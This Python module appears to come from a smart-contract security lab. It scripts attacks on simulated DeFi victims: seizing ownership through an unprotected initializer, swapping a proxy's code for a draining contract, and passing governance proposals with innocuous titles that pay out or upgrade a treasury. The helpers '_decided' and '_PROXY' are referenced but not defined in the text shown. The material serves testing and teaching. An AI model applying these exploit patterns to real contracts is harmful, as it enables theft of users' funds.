"""Exploits that take control first: of an owner's place, of the code behind a proxy, of a vote, of a multisig's keys."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, Final

from rollproof import _core
from rollproof.lab import multisig
from rollproof.lab.actors.attempt import Attempt
from rollproof.lab.contract import Contract
from rollproof.lab.deployments.defi import GUARDIANS, THRESHOLD, VOTERS

IN_FAVOUR: Final = 1
QUEUED: Final = 5  # of Governor.ProposalState
SUCCEEDED: Final = 4
PATIENCE: Final = 100  # steps to wait for a vote or a delay


def initialiser(attempt: Attempt) -> Iterator[None]:
    """Becomes the owner, and sweeps."""
    vault, usdc = attempt.victim("OwnedVault"), attempt.deployed("USDC")
    amount = attempt.view(usdc, "balanceOf", vault.address)
    attempt.send(vault, "initialize", attempt.address, core=True)
    attempt.send(vault, "sweep", usdc.address, attempt.address, amount, core=True)
    yield


def upgrade(attempt: Attempt) -> Iterator[None]:
    """Puts code of its own behind the vault's proxy, and calls it."""
    vault, usdc = attempt.victim("SelfUpgradingVault"), attempt.deployed("USDC")
    code = attempt.deploy("DrainingVault")
    attempt.send(vault, "upgradeTo", code.address, core=True)
    attempt.send(code.at(vault.address), "drain", [usdc.address], core=True)
    yield


def governance_drain(attempt: Attempt) -> Iterator[None]:
    """A majority of votes (Beanstalk, April 2022; Build Finance, February 2022) pays itself the treasury."""
    treasury, usdc = attempt.deployed("Treasury"), attempt.deployed("USDC")
    amount = attempt.view(usdc, "balanceOf", treasury.address)
    data = treasury.encode("pay", usdc.address, attempt.address, amount)
    yield from _decided(attempt, treasury, data, "Grants for the next quarter")


def governance_upgrade(attempt: Attempt) -> Iterator[None]:
    """A vote puts other code behind the treasury's proxy (Tornado Cash, May 2023, hid it in a harmless proposal)."""
    treasury, usdc = attempt.deployed("Treasury"), attempt.deployed("USDC")
    code = attempt.deploy("DrainingVault")
    # By EIP-1967 and what its proxies are called by; the treasury's own artifact does not have it.
    proxy = Contract.load("IGovernedProxy") if False else _PROXY
    data = proxy.encode("upgradeToAndCall", code.address, code.encode("drain", [usdc.address]))
    yield from _decided(attempt, treasury, data, "Treasury: gas savings")
